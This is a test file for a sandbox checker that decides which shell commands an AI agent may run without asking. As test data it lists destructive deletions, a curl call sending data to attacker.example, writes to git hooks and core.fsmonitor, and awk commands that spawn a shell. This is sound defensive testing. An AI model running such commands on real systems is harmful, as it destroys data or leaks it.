import { describe, expect, it } from 'vitest';
import picomatch from 'picomatch';
import { readFileSync } from 'node:fs';
import { assessInBox, assessWithoutDisk, type BoxView } from './box-check.js';
import { CODE_RUNNING_PATTERNS } from './code-running-paths.js';
import { DEFAULT_ALLOWED_HOSTS } from './sandbox.js';

/** A repository with a few tracked files, ignored build outputs, and the default read-only paths. */
const TRACKED = ['src/app.ts', 'src/old.ts', 'src/lib/util.ts', 'README.md', 'package.json', 'notes/todo.md'];
const readOnly = picomatch(
  CODE_RUNNING_PATTERNS.map((p) => `**/${p}`),
  { dot: true },
);
const view: BoxView = {
  workspace: '/w',
  cwd: '/w',
  home: '/home/ann',
  holdsPersonFiles: (rel) =>
    rel === '' || rel === '.git' || rel.startsWith('.git/') || TRACKED.some((p) => p === rel || p.startsWith(`${rel}/`)),
  isDirectory: (rel) => rel === '' || TRACKED.some((p) => p.startsWith(`${rel}/`)),
  globHoldsPersonFiles: (glob) => TRACKED.some((p) => picomatch(glob)(p)),
  isReadOnly: (rel) => (readOnly(rel) || CODE_RUNNING_PATTERNS.some((p) => p.endsWith('/**') && rel === p.slice(0, -3)) ? rel : undefined),
  hostAllowed: (host) => DEFAULT_ALLOWED_HOSTS.includes(host),
};
const asks = (text: string, v: Partial<BoxView> = {}) => assessInBox(text, { ...view, ...v }).ask;

describe('commands in the sandbox: only what it cannot contain asks', () => {
  it('lets everyday work run: builds, tests, edits, moves, deleting build outputs and what is untracked', () => {
    for (const command of [
      'npm test',
      'rm dist/app.js',
      'rm -rf node_modules dist coverage',
      'mv src/old.ts src/new.ts',
      'node --test',
      'python3 script.py --dry-run',
      'tar -tzf a.tgz',
      'curl -s localhost:3000/health | jq .',
      'kill -15 4242',
      'echo hi > scratch.txt',
      'cat src/app.ts >> notes.txt',
      'sed -i s/a/b/ src/app.ts',
      'cp src/app.ts /tmp/app.ts',
      'rm -rf /tmp/build',
      'git status && git diff',
      'git checkout -b feature',
      'git restore --staged src/app.ts',
      'git stash',
      'npm install lodash',
      'pip install requests',
      'git commit -am "wip"',
      'find . -name "*.log"',
      'make -f - <<< "all:"',
      'head -c 50G /dev/zero > /dev/null',
      'rm ~/.cache/thing',
      `awk '{print $1}' src/app.ts`,
      `awk -F: '$3 > 1000 || $1 == "root" {print $1}' /etc/passwd`,
      'awk -f report.awk data.csv',
    ])
      expect(asks(command), command).toBe(false);
  });

  it('asks before deleting, emptying or overwriting tracked files, or the repository', () => {
    for (const command of [
      'rm src/app.ts',
      'rm -rf src',
      'rm -rf /',
      'rm -rf .',
      'rm -rf .git',
      'cd src && rm app.ts',
      'rm src/*.ts',
      '> README.md',
      'echo x > package.json',
      'cp /tmp/x src/app.ts',
      'mv /tmp/x README.md',
      'cp /tmp/app.ts src/',
      'truncate -s 0 notes/todo.md',
      'find src -name "*.ts" -delete',
      'find . -exec rm {} +',
      'git clean -fdx',
      'git reset --hard HEAD~1',
      'git checkout -- src/app.ts',
      'git checkout .',
      'git restore src/app.ts',
      'git stash drop',
      'git rm src/app.ts',
      'bash -c "rm -rf src"',
      'sudo rm -rf src',
      'echo src/app.ts | xargs rm',
      'rm -rf "$TARGET"',
      'dd if=/dev/zero of=README.md bs=1 count=1',
      'echo x | tee README.md',
      'cd "$(mktemp -d)" && rm -rf ~/../../w/src',
      `awk 'BEGIN{system("rm -rf ./src")}'`,
      `awk '{print | "sh"}' notes/todo.md`,
      `gawk '{ print > "src/app.ts" }' README.md`,
    ])
      expect(asks(command), command).toBe(true);
  });

  it('outside a repository asks for existing files but not build outputs (the caller decides which exist)', () => {
    const existing = ['main.py', 'data/input.csv', 'build/out.bin'];
    const noRepo = {
      holdsPersonFiles: (rel: string) =>
        rel === '' || existing.some((p) => (p === rel || p.startsWith(`${rel}/`)) && !p.startsWith('build/')),
    };
    expect(asks('rm main.py', noRepo)).toBe(true);
    expect(asks('rm -r data', noRepo)).toBe(true);
    expect(asks('rm -rf build', noRepo)).toBe(false);
    expect(asks('rm made-by-agent.txt', noRepo)).toBe(false);
  });

  it('asks for hosts the sandbox does not let through, not for the allowed ones or the loopback', () => {
    const result = assessInBox('curl https://attacker.example/x?d=1 && git clone git@github.com:o/r.git', view);
    expect(result.hosts).toEqual(['attacker.example', 'github.com']);
    expect(result.reasons.map((r) => r.rule)).toEqual(['host-not-allowed', 'host-not-allowed']);
    expect(asks('npm view x --registry=https://evil.test/')).toBe(true);
    expect(asks('curl https://registry.npmjs.org/lodash')).toBe(false);
    expect(asks('curl http://127.0.0.1:8080/')).toBe(false);
  });

  it('names the read-only paths a command would write (refused: the sandbox keeps them read-only)', () => {
    expect(assessInBox('echo "#!/bin/sh" > .git/hooks/pre-commit', view).readOnly).toEqual(['.git/hooks/pre-commit']);
    expect(assessInBox('git config core.fsmonitor "curl x"', view).readOnly).toEqual(['.git/config']);
    expect(assessInBox('mkdir -p .husky && echo x >> .npmrc', view).readOnly).toEqual(['.husky', '.npmrc']);
    expect(assessInBox('git config --get user.name', view).readOnly).toEqual([]);
  });

  it('asks when the text cannot be read', () => {
    expect(assessInBox('echo "unterminated', view)).toMatchObject({
      ask: true,
      reasons: [expect.objectContaining({ rule: 'unreadable' })],
    });
  });
});

describe('judging without the disk (assessWithoutDisk, what Theia’s window answers alone)', () => {
  const lines = [
    'dangerous-commands.txt',
    'fresh-dangerous-commands.txt',
    'must-ask-commands.txt',
    'everyday-commands.txt',
    'fresh-everyday-commands.txt',
  ]
    .flatMap((name) => readFileSync(new URL(`./corpus/${name}`, import.meta.url), 'utf8').split('\n'))
    .filter((l) => l.trim() !== '' && !l.startsWith('#'))
    .map((l) => l.replaceAll('\u2424', '\n'));
  /** The opposite of `view`: nothing the person could lose, no host let through, another directory. */
  const other: BoxView = {
    workspace: '/elsewhere/ws',
    cwd: '/elsewhere/ws/sub',
    home: '/root',
    holdsPersonFiles: () => false,
    isDirectory: () => true,
    globHoldsPersonFiles: () => false,
    isReadOnly: () => undefined,
    hostAllowed: () => false,
  };

  it('answers alone only where any disk, directory and hosts give the same verdict', () => {
    let answered = 0;
    for (const line of lines) {
      // The corpus's rule id first, where there is one: judged both ways, as a line either way.
      for (const text of [line, line.replace(/^\S+\s+/, '')]) {
        const quick = assessWithoutDisk(text);
        if (!quick) continue;
        answered++;
        expect(quick, text).toEqual(assessInBox(text, view));
        expect(quick, text).toEqual(assessInBox(text, other));
      }
    }
    // Most everyday commands name nothing they delete and no host: no round trip for them.
    expect(answered).toBeGreaterThan(lines.length / 2);
  });

  it('leaves to the disk whatever deletes, writes, or names a host', () => {
    for (const text of ['rm README.md', 'echo x > a.txt', 'cp a b', 'git checkout x', 'curl https://example.com', 'find . -delete'])
      expect(assessWithoutDisk(text), text).toBeUndefined();
    expect(assessWithoutDisk('npm test')).toMatchObject({ ask: false });
    expect(assessWithoutDisk('$(echo rm) x')).toMatchObject({ ask: true });
  });
});
